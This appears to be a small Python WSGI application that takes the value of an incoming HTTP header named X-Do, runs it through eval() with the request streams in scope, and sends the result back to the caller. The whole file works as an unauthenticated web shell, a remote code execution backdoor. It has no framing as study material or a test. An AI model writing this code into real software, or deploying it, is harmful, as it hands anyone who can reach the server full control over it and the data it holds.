"""Evaluates the header X-Do with wsgi.input as `i` and wsgi.errors as `e`, and tells what came of it."""


def application(environ, start_response):
    names = {"i": environ["wsgi.input"], "e": environ["wsgi.errors"], "environ": environ}
    try:
        value = eval(environ["HTTP_X_DO"], names)
    except Exception as error:
        value = f"{type(error).__name__}: {error}"
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [ascii(value).encode("ascii")]
